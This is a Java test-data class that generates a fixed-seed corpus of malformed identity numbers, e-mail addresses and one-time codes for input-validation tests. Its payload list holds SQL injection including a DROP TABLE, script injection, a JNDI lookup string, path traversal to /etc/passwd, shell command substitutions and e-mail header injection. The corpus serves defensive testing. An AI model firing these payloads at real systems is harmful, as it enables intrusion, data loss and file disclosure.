package org.cityhall.shared;

import java.time.LocalDate;
import java.util.ArrayList;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Random;
import java.util.Set;
import java.util.function.Function;

/**
 * Malformed input for tests that feed forms and APIs what people and robots send: wrong
 * lengths, letters, control characters, digits from other scripts, SQL and script fragments,
 * 10,000-character strings. Made from a fixed seed, so every run sends the same strings.
 * <p>
 * Every string stays malformed after surrounding white space is trimmed (control characters
 * and the like sit inside the string, never at its ends), and the identity numbers stay
 * malformed whatever the date this century.
 */
public final class MalformedInputCorpus {

	private static final long SEED = 0x5EED_C17_4A11L;

	private static final int LONG = 10_000;

	/** The zero of each script whose digits {@link Character#isDigit(char)} accepts but a number may not contain. */
	private static final int[] FOREIGN_ZEROS = { 0x0660, 0x06F0, 0x0966, 0x09E6, 0x0E50, 0xFF10, 0x1D7CE };

	private static final String[] CONTROLS = { "\u0000", "\u0007", "\b", "\t", "\n", "\r", "\u000B", "\f", "\u001B",
			"\u007F", "\u0085", "\u00A0", "\u200B", "\u200E", "\u202E", "\uFEFF", "\r\n" };

	private static final String[] INJECTIONS = { "' OR '1'='1", "'; DROP TABLE identity_resident;--", "\" OR 1=1 --",
			"1 UNION SELECT password FROM users", "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>",
			"javascript:alert(1)", "${jndi:ldap://example.invalid/a}", "{{7*7}}", "[[${7*7}]]", "#{7*7}", "%00",
			"../../../../etc/passwd", "<!--", "]]>", "\\", "%s%s%s%n", "$(id)", "`id`", "|| ping -c 1 example.invalid" };

	private MalformedInputCorpus() {
	}

	/**
	 * Hostile text for any field: scripts, SQL and template injections, control and invisible characters
	 * alone and inside words, text decoded with the wrong encoding, lone surrogates, and numbers and dates
	 * written in other scripts' digits. Long strings are left to the caller, who knows the limit.
	 */
	public static List<String> hostileText() {
		Set<String> corpus = new LinkedHashSet<>(List.of(INJECTIONS));
		for (String control : CONTROLS) {
			corpus.add(control);
			corpus.add("Tallen" + control + "4:12");
		}
		// UTF-8 read as Latin-1, replacement characters, lone surrogates and a byte-order mark.
		corpus.addAll(List.of("SÃ¶derÃ¥sen 4:12", "\uFFFD\uFFFD", "\uD800", "\uDC00abc", "\uFEFFTallen 4:12",
				"NaN", "-0", "1e309", "0x1F", "2026-02-30", "31/13/2026", "\u0661\u0662"));
		for (int zero : FOREIGN_ZEROS) {
			corpus.add(new String(Character.toChars(zero)) + "12");
		}
		return List.copyOf(corpus);
	}

	/** At least 500 strings that are not personal identity numbers. */
	public static List<String> identityNumbers() {
		Random random = new Random(SEED);
		Set<String> corpus = new LinkedHashSet<>();

		corpus.addAll(List.of("", " ", "   ", "\t", "\n", "\r\n", " \t \n ", "\u00A0", "\u2003", "\u3000"));
		corpus.addAll(List.of("-", "+", "--", "++", "+-", "0", "null", "undefined", "NaN", "true", "[]", "{}",
				"YYMMDD-NNNN", "ÅÅMMDD-NNNN", "ÅÅÅÅMMDD-XXXX", "19850412-XXXX", "19850412-****", "abcdefghij",
				"abcdefghijkl", "8.112189876E9", "0x8112189876", "8112189876L", "8_112_189_876", "81 12 18 98 76",
				"811218-98 76", "811218/9876", "811218.9876", "811218_9876", "811218:9876", "811218,9876",
				"811218\\9876", "811218*9876", "811218#9876", "+8112189876", "8112189876+", "8112189876-",
				"-8112189876", "811218++9876", "811218+-9876", "811218-+9876", "811218--9876", "81121+89876",
				"8112-189876", "811218-98-76", "19811218+-9876", "1981-12-18-9876", "1981-12-18", "811218",
				"9876", "SE8112189876", "8112189876SE", "811218-9876X", "X811218-9876", "(811218)9876",
				"\"811218-9876\"", "'811218-9876'", "811218-9876;", "８１１２１８-９８７６", "811218-987６"));
		for (String injection : INJECTIONS) {
			corpus.add(injection);
			String number = hyphenated(validTenDigits(random));
			corpus.add(number + injection);
			corpus.add(injection + number);
			corpus.add(number.substring(0, 6) + injection + number.substring(6));
		}

		addLongStrings(corpus, random);

		for (int i = 0; i < 60; i++) {
			corpus.add(randomDigits(random, wrongDigitCount(random)));
			String withHyphen = randomDigits(random, wrongDigitCount(random));
			corpus.add(withHyphen.length() > 4 ? hyphenated(withHyphen) : withHyphen + "-");
		}
		for (int i = 0; i < 20; i++) {
			String ten = validTenDigits(random);
			int drop = random.nextInt(10);
			corpus.add(hyphenated(ten.substring(0, drop) + ten.substring(drop + 1)));
			corpus.add(ten + random.nextInt(10));
			corpus.add(random.nextInt(10) + hyphenated(ten));
		}

		String letters = "abcdefghijklmnopqrstuvwxyzåäöABCDEFGHIJKLMNOPQRSTUVWXYZÅÄÖOlIoéü";
		for (int i = 0; i < 40; i++) {
			String number = i % 2 == 0 ? hyphenated(validTenDigits(random)) : validTwelveDigits(random);
			int at = randomDigitIndex(random, number);
			corpus.add(number.substring(0, at) + letters.charAt(random.nextInt(letters.length())) + number.substring(at + 1));
		}

		for (int i = 0; i < 40; i++) {
			String number = i % 2 == 0 ? hyphenated(validTenDigits(random)) : validTwelveDigits(random);
			int at = 1 + random.nextInt(number.length() - 1);
			corpus.add(number.substring(0, at) + CONTROLS[i % CONTROLS.length] + number.substring(at));
		}

		for (int i = 0; i < FOREIGN_ZEROS.length * 8; i++) {
			int zero = FOREIGN_ZEROS[i % FOREIGN_ZEROS.length];
			String number = i % 3 == 0 ? validTwelveDigits(random) : hyphenated(validTenDigits(random));
			corpus.add(i % 2 == 0 ? inScript(number, zero) : withOneDigitInScript(number, zero, random));
		}
		corpus.add("¹²³⁴⁵⁶-⁷⁸⁹⁰");
		corpus.add("811218-987⁶");
		corpus.add("Ⅷ11218-9876");
		corpus.add("➑➊➊➋➊➑-➒➑➐➅");

		for (int i = 0; i < 80; i++) {
			String ten = validTenDigits(random);
			String wrong = ten.substring(0, 9) + (char) ('0' + (ten.charAt(9) - '0' + 1 + random.nextInt(9)) % 10);
			corpus.add(inForm(wrong, i, centuryOf(wrong)));
		}

		addImpossibleDates(corpus, random);

		for (int i = 0; i < 30; i++) {
			int day = 92 + random.nextInt(8);
			String nine = twoDigits(30 + random.nextInt(70)) + twoDigits(1 + random.nextInt(12)) + day + threeDigits(random);
			corpus.add(inForm(withCheckDigit(nine), i, "19"));
		}
		for (String coordinationOnAMissingDay : List.of("8502", "8504", "8506", "8509", "8511")) {
			String lastDay = coordinationOnAMissingDay.endsWith("02") ? "90" : "91";
			corpus.add(hyphenated(withCheckDigit(coordinationOnAMissingDay + lastDay + threeDigits(random))));
		}
		corpus.add(hyphenated(withCheckDigit("230289" + threeDigits(random))));

		for (int i = 0; i < 30; i++) {
			LocalDate birth = LocalDate.of(1960 + random.nextInt(61), 1 + random.nextInt(12), 1 + random.nextInt(28));
			String nine = yymmdd(birth) + threeDigits(random);
			String twelve = (birth.getYear() / 100) + withCheckDigit(nine);
			corpus.add(withSeparator(twelve, '+'));
		}

		for (int i = 0; i < 25; i++) {
			int year = 2100 + random.nextInt(7900);
			LocalDate birth = LocalDate.of(year, 1 + random.nextInt(12), 1 + random.nextInt(28));
			String twelve = (year / 100) + withCheckDigit(yymmdd(birth) + threeDigits(random));
			corpus.add(i % 2 == 0 ? twelve : withSeparator(twelve, '-'));
		}

		return List.copyOf(corpus);
	}

	/** At least 200 strings that are not e-mail addresses. */
	public static List<String> emailAddresses() {
		Random random = new Random(SEED + 1);
		Set<String> corpus = new LinkedHashSet<>();
		corpus.addAll(List.of("", " ", "\t", "@", "@@", ".", "a", "@.", "a@", "@a", "anna@", "@example.se",
				"anna.example.se", "anna at example dot se", "anna@example@example.se", "anna@@example.se",
				"anna＠example.se", "anna@example,se", "anna@example;se", "anna@.example.se", "anna@example..se",
				".anna@example.se", "anna.@example.se", "an..na@example.se", "anna@-example.se", "anna@example-.se",
				"an na@example.se", "anna@exa mple.se", "anna@example.se:25", "mailto:anna@example.se",
				"http://example.se", "an\\na@example.se", "an<na@example.se", "anna@<example.se>",
				"anna@example.se;erik@example.se", "anna@example.se,erik@example.se", "anna@example.se erik@example.se",
				"anna@example.se\r\nBcc: erik@example.se", "anna@example.se\nSubject: hi", "an\u0000na@example.se",
				"anna@exa\u0000mple.se", "an\tna@example.se", "anna@exa\tmple.se", "' OR '1'='1",
				"' OR 1=1--@example.se", "<script>alert(1)</script>@example.se", "anna@example.se<script>",
				"\"><img src=x onerror=alert(1)>@example.se", "${jndi:ldap://example.invalid/a}",
				"x".repeat(65) + "@example.se", "anna@" + "a".repeat(64) + ".se",
				"anna@" + ("a".repeat(63) + ".").repeat(4) + "se", "a".repeat(LONG - 11) + "@example.se",
				"@".repeat(LONG), "a".repeat(LONG)));

		String[] locals = { "anna", "erik.svensson", "info", "kundtjanst", "a.b-c", "user+tag", "x", "förnamn.efternamn" };
		String[] domains = { "example.se", "stad.example.se", "mail.example.com", "example.org", "e.xample.net" };
		List<Function<String[], String>> defects = List.of(
				p -> p[0] + p[1],
				p -> p[0] + "@@" + p[1],
				p -> p[0] + "@" + p[0] + "@" + p[1],
				p -> "@" + p[1],
				p -> p[0] + "@",
				p -> p[0] + " @" + p[1],
				p -> p[0] + "@ " + p[1],
				p -> p[0] + "@" + p[1].replaceFirst("\\.", " ."),
				p -> "." + p[0] + "@" + p[1],
				p -> p[0] + ".@" + p[1],
				p -> p[0].charAt(0) + ".." + p[0].substring(1) + "@" + p[1],
				p -> p[0] + "@." + p[1],
				p -> p[0] + "@" + p[1].replace(".", ".."),
				p -> p[0] + "@-" + p[1],
				p -> p[0] + "@" + p[1].replace('.', ','),
				p -> p[0] + "@" + p[1] + "\r\nBcc: " + p[0] + "@" + p[1],
				p -> p[0] + "\u0000@" + p[1],
				p -> p[0] + "@" + p[1] + ";" + p[0] + "@" + p[1],
				p -> p[0] + "@" + p[1] + "," + p[0] + "@" + p[1],
				p -> p[0] + "x".repeat(64) + "@" + p[1],
				p -> p[0] + "@" + "d".repeat(64) + "." + p[1],
				p -> p[0] + "＠" + p[1],
				p -> "mailto:" + p[0] + "@" + p[1],
				p -> p[0] + "\\x@" + p[1],
				p -> p[0] + "@" + p[1] + ":" + (1 + random.nextInt(65535)),
				p -> p[0] + "\t@" + p[1],
				p -> p[0] + "@" + p[1] + "<script>",
				p -> p[0] + "'--@" + p[1].replace('.', ' '),
				p -> p[0] + "(@)" + p[1]);
		while (corpus.size() < 230) {
			String[] parts = { locals[random.nextInt(locals.length)], domains[random.nextInt(domains.length)] };
			corpus.add(defects.get(random.nextInt(defects.size())).apply(parts));
		}
		return List.copyOf(corpus);
	}

	/** At least 200 strings that are not six-digit one-time codes. */
	public static List<String> oneTimeCodes() {
		Random random = new Random(SEED + 2);
		Set<String> corpus = new LinkedHashSet<>();
		corpus.addAll(List.of("", " ", "      ", "\t", "\n", "abcdef", "ABCDEF", "O12345", "l23456", "12345O",
				"123 456", "12 34 56", "1 2 3 4 5 6", "123-456", "123_456", "123.456", "12345.", "1.2345", "1e5",
				"1E+05", "0x1234", "+12345", "-12345", "+123456", "-123456", "123456-", "(12345)", "¹²³⁴⁵⁶",
				"①②③④⑤⑥", "123\u0000456", "123\u200B456", "123\u00AD456", "12345😀", "😀😀😀😀😀😀", "' OR 1=1--",
				"123456' OR '1'='1", "123456;--", "<script>alert(1)</script>", "{{123456}}", "${123456}", "null",
				"NaN", "123456 123456", "123456\n123456", "1".repeat(LONG), "123456".repeat(LONG / 6),
				"a".repeat(LONG), "١".repeat(6), "١٢٣٤٥٦", "１２３４５６", "١٢٣٤٥٦".repeat(LONG / 6)));
		for (int i = 0; i < 20; i++) {
			corpus.add(randomDigits(random, 5));
			corpus.add(randomDigits(random, 7));
			corpus.add(randomDigits(random, 1 + random.nextInt(4)));
			corpus.add(randomDigits(random, 8 + random.nextInt(5)));
		}
		String letters = "abcdefghijklmnopqrstuvwxyzåäöOIl";
		for (int i = 0; i < 25; i++) {
			String code = randomDigits(random, 6);
			int at = random.nextInt(6);
			corpus.add(code.substring(0, at) + letters.charAt(random.nextInt(letters.length())) + code.substring(at + 1));
		}
		for (int i = 0; i < 15; i++) {
			String code = randomDigits(random, 6);
			int at = 1 + random.nextInt(5);
			corpus.add(code.substring(0, at) + CONTROLS[i % CONTROLS.length] + code.substring(at));
			corpus.add(code.substring(0, at) + " " + code.substring(at));
		}
		for (int i = 0; i < FOREIGN_ZEROS.length * 4; i++) {
			String code = randomDigits(random, 6);
			int zero = FOREIGN_ZEROS[i % FOREIGN_ZEROS.length];
			corpus.add(i % 2 == 0 ? inScript(code, zero) : withOneDigitInScript(code, zero, random));
		}
		for (String injection : INJECTIONS) {
			corpus.add(randomDigits(random, 6) + injection);
		}
		return List.copyOf(corpus);
	}

	private static void addLongStrings(Set<String> corpus, Random random) {
		corpus.add("1".repeat(LONG));
		corpus.add("8112189876".repeat(LONG / 10));
		corpus.add("811218-9876".repeat(LONG / 11));
		corpus.add("a".repeat(LONG));
		corpus.add("-".repeat(LONG));
		corpus.add("+".repeat(LONG));
		corpus.add("١".repeat(LONG));
		corpus.add("811218-9876" + "0".repeat(LONG - 11));
		corpus.add("0".repeat(LONG - 11) + "811218-9876");
		corpus.add(randomDigits(random, LONG));
		corpus.add(" ".repeat(LONG / 2) + "x" + " ".repeat(LONG / 2));
	}

	// Dates that do not exist, each with the check digit that would otherwise be right. Day 60 and
	// month 00 are left out: a coordination number for someone whose date of birth is not known
	// in full may one day be allowed to carry them.
	private static void addImpossibleDates(Set<String> corpus, Random random) {
		List<String> monthDays = new ArrayList<>(List.of("0000", "0001", "0100", "1300", "1301", "1315", "1901",
				"2001", "9999", "0132", "0140", "0150", "0159", "0230", "0231", "0292", "0431", "0631", "0931",
				"1131", "1232", "1259", "0299", "0199"));
		for (int month = 13; month <= 19; month++) {
			monthDays.add(month + twoDigits(1 + random.nextInt(28)));
		}
		for (int i = 0; i < 10; i++) {
			monthDays.add(twoDigits(1 + random.nextInt(12)) + (32 + random.nextInt(28)));
		}
		int form = 0;
		for (String monthDay : monthDays) {
			String nine = twoDigits(30 + random.nextInt(70)) + monthDay + threeDigits(random);
			corpus.add(inForm(withCheckDigit(nine), form++, "19"));
		}
		for (String year : List.of("1900", "1800", "2100", "1901", "1999", "2001", "2019", "2023", "2025", "1983")) {
			String twelve = year.substring(0, 2) + withCheckDigit(year.substring(2) + "0229" + threeDigits(random));
			corpus.add(twelve);
			corpus.add(withSeparator(twelve, '-'));
		}
		for (String year : List.of("01", "19", "23", "25", "83", "99")) {
			corpus.add(hyphenated(withCheckDigit(year + "0229" + threeDigits(random))));
		}
		corpus.add(withSeparator(withCheckDigit("000229" + threeDigits(random)), '+'));
		corpus.add(withSeparator(withCheckDigit("000289" + threeDigits(random)), '+'));
	}

	private static String inForm(String tenDigits, int form, String century) {
		return switch (form % 4) {
			case 0 -> hyphenated(tenDigits);
			case 1 -> tenDigits;
			case 2 -> century + tenDigits;
			default -> withSeparator(century + tenDigits, '-');
		};
	}

	private static String validTenDigits(Random random) {
		LocalDate birth = LocalDate.ofEpochDay(LocalDate.of(1930, 1, 1).toEpochDay() + random.nextInt(365 * 90));
		return withCheckDigit(yymmdd(birth) + threeDigits(random));
	}

	private static String validTwelveDigits(Random random) {
		String ten = validTenDigits(random);
		return withSeparator(centuryOf(ten) + ten, '-');
	}

	// The numbers made here are born 1930–2019: 30–99 means the 1900s.
	private static String centuryOf(String tenDigits) {
		return tenDigits.charAt(0) >= '3' ? "19" : "20";
	}

	private static String withCheckDigit(String nineDigits) {
		return nineDigits + Luhn.checkDigit(nineDigits);
	}

	private static String hyphenated(String digits) {
		return withSeparator(digits, '-');
	}

	private static String withSeparator(String digits, char separator) {
		return digits.substring(0, digits.length() - 4) + separator + digits.substring(digits.length() - 4);
	}

	private static String yymmdd(LocalDate date) {
		return twoDigits(date.getYear() % 100) + twoDigits(date.getMonthValue()) + twoDigits(date.getDayOfMonth());
	}

	private static String twoDigits(int number) {
		return number < 10 ? "0" + number : Integer.toString(number);
	}

	private static String threeDigits(Random random) {
		return String.format("%03d", random.nextInt(1000));
	}

	private static int wrongDigitCount(Random random) {
		int[] counts = { 1, 2, 3, 4, 5, 6, 7, 8, 9, 11, 13, 14, 15, 16, 20 };
		return counts[random.nextInt(counts.length)];
	}

	private static String randomDigits(Random random, int count) {
		StringBuilder digits = new StringBuilder(count);
		for (int i = 0; i < count; i++) {
			digits.append((char) ('0' + random.nextInt(10)));
		}
		return digits.toString();
	}

	private static int randomDigitIndex(Random random, String number) {
		int at;
		do {
			at = random.nextInt(number.length());
		}
		while (!Character.isDigit(number.charAt(at)));
		return at;
	}

	private static String inScript(String text, int zero) {
		StringBuilder converted = new StringBuilder();
		for (char c : text.toCharArray()) {
			if (c >= '0' && c <= '9') {
				converted.appendCodePoint(zero + (c - '0'));
			}
			else {
				converted.append(c);
			}
		}
		return converted.toString();
	}

	private static String withOneDigitInScript(String text, int zero, Random random) {
		int at = randomDigitIndex(random, text);
		return text.substring(0, at) + Character.toString(zero + (text.charAt(at) - '0')) + text.substring(at + 1);
	}
}
